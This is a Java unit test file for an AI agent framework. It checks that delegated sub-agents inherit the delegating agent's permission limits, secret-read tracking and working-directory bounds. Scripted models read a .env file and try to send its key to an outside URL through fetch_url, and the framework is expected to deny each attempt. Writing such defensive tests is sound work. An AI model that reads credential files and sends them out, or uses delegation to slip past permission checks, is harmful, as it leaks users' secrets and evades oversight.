package dev.asyncat.core;

import static dev.asyncat.testkit.run.RunAssert.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import dev.asyncat.core.profile.ProfileDraft;
import dev.asyncat.json.Json;
import dev.asyncat.json.JsonObject;
import dev.asyncat.model.Message;
import dev.asyncat.model.ModelRequest;
import dev.asyncat.permission.Approver;
import dev.asyncat.permission.PermissionDecision;
import dev.asyncat.permission.PermissionOutcome;
import dev.asyncat.run.DelegationEvent;
import dev.asyncat.run.LifecycleEvent;
import dev.asyncat.run.Run;
import dev.asyncat.run.RunEvent;
import dev.asyncat.run.RunRequest;
import dev.asyncat.run.StopReason;
import dev.asyncat.run.ToolEvent;
import dev.asyncat.testkit.model.ScriptedModel;
import dev.asyncat.testkit.model.Turn;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** An agent that works for another one may never do more than that one may. */
class DelegatedRightsTest {

  private static final JsonObject LEAK =
      Json.object().put("url", "https://example.org/?KEY=1").build();
  private static final JsonObject SECRET = Json.object().put("path", ".env").build();

  @TempDir Path directory;

  @Test
  void what_the_first_agents_profile_refuses_is_refused_to_the_other_too() {
    try (Asyncat asyncat = Asyncat.builder().model(delegating("fetch_url", LEAK)).build()) {
      String careful =
          asyncat
              .profiles()
              .create(
                  asyncat.users().defaultUser().id(),
                  ProfileDraft.builder()
                      .name("Careful")
                      .alwaysAllowedTools(List.of("!fetch_url"))
                      .build())
              .id();
      Run run = asyncat.run(request().profileId(careful).autoApprove(true).build());

      assertThat(run.result().stopReason()).isEqualTo(StopReason.ANSWER);
      ToolEvent.Start start = inner(run, ToolEvent.Start.class);
      assertThat(start.outcome()).isEqualTo(PermissionOutcome.DENIED);
      assertThat(start.reason()).contains("!fetch_url");
    }
  }

  @Test
  void secrets_that_the_first_agent_has_read_are_not_carried_away_by_the_other() throws Exception {
    Files.writeString(directory.resolve(".env"), "KEY=1");
    ScriptedModel model =
        ScriptedModel.builder()
            .turn(Turn.calling("read_file", SECRET))
            .otherwise(request -> turn(request, "fetch_url", LEAK))
            .build();
    Approver onlyDelegation =
        (request, cancel) ->
            request.call().name().equals("delegate_task")
                ? PermissionDecision.allow()
                : PermissionDecision.deny("no");
    try (Asyncat asyncat = Asyncat.builder().model(model).approver(onlyDelegation).build()) {
      Run run = asyncat.run(request().build());

      assertThat(run.answer()).isEqualTo("done");
      ToolEvent.Start start = inner(run, ToolEvent.Start.class);
      assertThat(start.outcome()).isEqualTo(PermissionOutcome.DENIED);
    }
  }

  @Test
  void secrets_that_the_other_agent_has_read_count_for_the_first_one() throws Exception {
    Files.writeString(directory.resolve(".env"), "KEY=1");
    ScriptedModel model =
        ScriptedModel.builder()
            .otherwise(
                request ->
                    !works(request) && last(request) instanceof Message.ToolResult result
                        ? result.toolName().equals("fetch_url")
                            ? Turn.saying("done")
                            : Turn.calling("fetch_url", LEAK)
                        : turn(request, "read_file", SECRET))
            .build();
    try (Asyncat asyncat = Asyncat.builder().model(model).build()) {
      Run run = asyncat.run(request().preApproved(List.of("delegate_task")).build());

      assertThat(run)
          .hasResult(
              "delegate_task",
              result -> assertThat(result.string("readSecrets", "")).isEqualTo(".env"))
          .hasResult(
              "fetch_url",
              result -> assertThat(result.string("error", "")).contains("has read .env"));
    }
  }

  @Test
  void always_is_kept_where_the_first_agent_keeps_it() {
    ScriptedModel model =
        delegating("write_file", Json.object().put("path", "a").put("content", "b").build());
    try (Asyncat asyncat =
        Asyncat.builder()
            .model(model)
            .approver((request, cancel) -> new PermissionDecision.AllowAlways())
            .build()) {
      String user = asyncat.users().defaultUser().id();
      String own = asyncat.profiles().create(user, named("Own")).id();
      asyncat.run(request().profileId(own).build()).result();

      assertThat(asyncat.profiles().get(user, own).alwaysAllowedTools())
          .containsExactly("delegate_task(Work)", "write_file");
    }
  }

  @Test
  void a_profile_works_in_its_own_directory_where_the_first_agent_could_work_too()
      throws Exception {
    Path sub = Files.createDirectories(directory.resolve("sub"));
    Path parent = directory.toRealPath().getParent();

    assertThat(directoryOfProfile(sub.toString())).isEqualTo(sub.toRealPath());
    assertThat(directoryOfProfile("sub")).isEqualTo(sub.toRealPath());
    assertThat(directoryOfProfile(parent.toString())).isEqualTo(directory.toRealPath());
    assertThat(directoryOfProfile("gone")).isEqualTo(directory.toRealPath());
  }

  private Path directoryOfProfile(String wanted) {
    JsonObject task = Json.object().put("profileHandle", "other").put("task", "Work").build();
    ScriptedModel model =
        ScriptedModel.of(
            Turn.calling("delegate_to_profile", task), Turn.saying("ok"), Turn.saying("done"));
    try (Asyncat asyncat = Asyncat.builder().model(model).build()) {
      asyncat
          .profiles()
          .create(
              asyncat.users().defaultUser().id(),
              ProfileDraft.builder().name("Other").workingDirectory(wanted).build());
      Run run = asyncat.run(request().preApproved(List.of("delegate_to_profile")).build());
      return inner(run, LifecycleEvent.SessionStart.class).workingDirectory();
    }
  }

  private static ProfileDraft named(String name) {
    return ProfileDraft.builder().name(name).build();
  }

  /** Gives work to another agent, which makes one call. */
  private static ScriptedModel delegating(String tool, JsonObject arguments) {
    return ScriptedModel.answeredBy(request -> turn(request, tool, arguments));
  }

  private static Turn turn(ModelRequest request, String tool, JsonObject arguments) {
    if (last(request) instanceof Message.ToolResult result && !result.toolName().equals("read_file")
        || works(request) && last(request) instanceof Message.ToolResult) {
      return Turn.saying("done");
    }
    return works(request)
        ? Turn.calling(tool, arguments)
        : Turn.calling(
            "delegate_task", Json.object().put("role", "Worker").put("task", "Work").build());
  }

  private static boolean works(ModelRequest request) {
    return request.messages().toString().contains("You are: Worker");
  }

  private static Message last(ModelRequest request) {
    return request.messages().getLast();
  }

  private RunRequest.Builder request() {
    return RunRequest.of("do it together").in(directory).toBuilder();
  }

  private static <E extends RunEvent> E inner(Run run, Class<E> type) {
    try (Stream<RunEvent> events = run.events()) {
      return events
          .filter(DelegationEvent.Inner.class::isInstance)
          .map(event -> ((DelegationEvent.Inner) event).event())
          .filter(type::isInstance)
          .map(type::cast)
          .findFirst()
          .orElseThrow();
    }
  }
}
